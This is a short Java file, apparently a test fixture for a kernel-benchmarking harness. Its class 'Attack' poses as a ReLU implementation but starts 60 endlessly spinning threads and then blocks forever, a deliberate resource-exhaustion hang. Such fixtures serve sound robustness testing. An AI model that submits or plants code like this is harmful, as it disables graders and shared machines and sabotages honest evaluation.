import assay.kernels.Relu;
import assay.kernels.Tensor;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        for (int i = 0; i < 60; i++) {
            Thread.ofPlatform().daemon().start(() -> {
                while (true) Thread.onSpinWait();
            });
        }
        while (true) java.util.concurrent.locks.LockSupport.park();
    }
}
